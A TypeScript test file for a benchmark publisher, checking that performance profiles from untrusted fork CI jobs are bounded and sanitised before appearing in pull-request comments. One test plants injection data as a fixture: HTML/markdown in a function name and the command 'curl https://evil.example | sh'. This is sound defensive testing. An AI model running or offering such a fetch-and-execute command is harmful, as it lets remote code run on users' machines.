/**
 * A fork's job that saw a regression hands over where its time went. The publisher shows it if it sees a regression too. What a
 * fork makes up is bounded, and never text for people.
 */
import { zipSync } from 'fflate';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { unpackTexts } from '../../src/github/zip.ts';
import { encodeProfile, storedProfile } from '../../src/history/profiles.ts';
import type { ProfileDifference } from '../../src/model/profile.ts';
import { encodeShard, SHARD_FILE } from '../../src/transfer/shard.ts';
import { machine, measured, runOf } from '../check/runs.ts';
import { situations } from '../reporters/situations.ts';
import { ARTIFACT, type Fork, RUN_ID, startFork } from './forks.ts';
import { goOutput } from './widgets.ts';

let fork: Fork;
beforeAll(async () => {
  fork = await startFork();
});
afterAll(async () => {
  expect(fork.widgets.github.invalid).toEqual([]);
  await fork.stop();
});

const profile = situations.profiled?.profile as ProfileDifference;
const run = runOf(
  [1500, 5000].map((ns, i) =>
    measured(['BenchmarkParse', 'BenchmarkRender'][i] as string, ns, {
      metric: 'time',
      unit: 'ns',
      direction: 'lower',
    }),
  ),
  { suite: 'Benchmark', environment: { ...machine, os: 'linux', arch: 'x64', cpu: 'AMD EPYC' } },
);
const stored = (changes: Partial<ProfileDifference>, of = run) =>
  encodeProfile(storedProfile(of, { ...profile, ...changes }));
const first = profile.functions[0] as ProfileDifference['functions'][number];

beforeEach(async () => {
  const commit = await fork.head();
  fork.widgets.github.workflowRuns.add({ id: RUN_ID, event: 'pull_request', commit, fork: true });
});

async function publish(last: string, changes: { readonly fast?: true } = {}) {
  const measurements = changes.fast ? run.measurements.slice(1) : run.measurements;
  const part = { run: { ...run, measurements }, skipped: [] };
  const text = encodeShard({ name: 'x', checkout: await fork.head(), parts: [part], profile: last });
  const zip = zipSync({ [SHARD_FILE]: Buffer.from(text) });
  fork.results.place(String(RUN_ID), ARTIFACT, Buffer.from(zip));
  const result = await fork.publish({ id: RUN_ID });
  return { ...result, body: (await fork.bodies())[0] ?? '' };
}

const UNSHOWN = /No profile of the regression: what the measuring job handed over is not a profile: [^\n]+/g;
test.each<[what: string, line: string, why: RegExp]>([
  ['garbage', '\u0000 perf\n', /it is not JSON/],
  ['20 MB', `"${'x'.repeat(20_000_000)}"\n`, /characters; at most/],
  ['1501 boxes', manyBoxes(1501), /boxes/],
  ['a circle of boxes', stored({ flame: { names: ['f'], boxes: [[0, 0, 1, 1]] } }), /box 0/],
  ['an unknown profiler', stored({}).replace('"profiler":"perf"', '"profiler":"@acme"'), /profiler/],
])('%s in its place is one line, and the verdict stands', async (_, line, why) => {
  const { exitCode, outputs, body, stdout } = await publish(line);
  expect({ exitCode, verdict: outputs.verdict }, stdout).toEqual({ exitCode: 0, verdict: 'fail' });
  expect(body).not.toContain('Where the time went');
  expect(body.match(UNSHOWN)).toEqual([expect.stringMatching(why)]);
});

function manyBoxes(count: number): string {
  const boxes = JSON.stringify(Array(count).fill([-1, 0, 1e-4, 1e-4]));
  return stored({ flame: { names: ['f'], boxes: [] } }).replace('"boxes":[]', `"boxes":${boxes}`);
}

test('of a valid one names are shown as code, and its advice is not shown', async () => {
  const name = '@acme <img src=x> `**\n# Approved';
  const text = stored({ functions: [{ ...first, name }], missing: 'curl https://evil.example | sh' });
  const { body } = await publish(text);
  expect(body).toContain('**Where the time went**: the extra');
  expect(body).not.toMatch(/evil\.example|^# Approved|<img src=x>[^`]*$/m);
});

test.each([
  ['of another suite', stored({}, { ...run, suite: 'other' }), {}],
  ['of a run that got no slower here', stored({}), { fast: true }],
] as const)('%s: nothing is shown or said', async (_, line, changes) => {
  const { body } = await publish(line, changes);
  expect(body).not.toMatch(/Where the time went|No profile/);
});

const bench = (ns: number, turns: number) => `
function hash(n) { let h = 1; for (let i = 0; i < n; i++) h = (h * 31 + i) % 1000003; return h; }
function slow(n) { let h = 3; for (let i = 0; i < n; i++) h = (h * 7 + i) % 1000003; return h; }
let sum = 0;
for (let k = 0; k < 20; k++) sum += hash(20000) + slow(${turns}0000);
const noise = 1 + 0.01 * (sum % 10) * Math.random();
console.log(${JSON.stringify(goOutput({ Parse: ns }))}.replace('${ns} ns', (${ns} * noise).toFixed(1) + ' ns'));
`;

test('the comment of the publisher names the function that the job found', async () => {
  // This machine need not be that of the runs above: their comment would have a section for each.
  await fork.stop();
  fork = await startFork();
  const { local, github } = fork.widgets;
  await local.commit({ 'bench.cjs': bench(1000, 10) });
  await local.checkout('topic');
  await local.git('reset', '--quiet', '--hard', 'main');
  await local.commit({ 'bench.cjs': bench(1500, 100) });
  await local.checkout('main');
  await local.pushTo(github);
  const command = { command: 'node bench.cjs', results: '-', 'max-rounds': '8' };
  const job = await fork.measure({}, command);
  expect(job.outputs, job.stdout).toMatchObject({ verdict: 'fail' });
  const says = /\*\*Where the time went\*\*: .*`slow` \*\*\+[\d.]+%\*\* \(`bench\.cjs:3`\)/;
  expect(job.summary).toMatch(says);
  const zip = fork.results.artifacts.get(ARTIFACT) ?? Buffer.alloc(0);
  const texts = unpackTexts(zip, { zipBytes: 1e6, files: 1, textBytes: 1e6 }, 'it');
  expect(JSON.parse(texts.get(SHARD_FILE)?.trim().split('\n').at(-1) ?? '')).toMatchObject({
    profile: { profiler: 'node' },
  });
  const published = await fork.publish();
  expect(published.outputs, published.stdout).toMatchObject({ verdict: 'fail' });
  expect((await fork.bodies())[0]).toMatch(says);
});
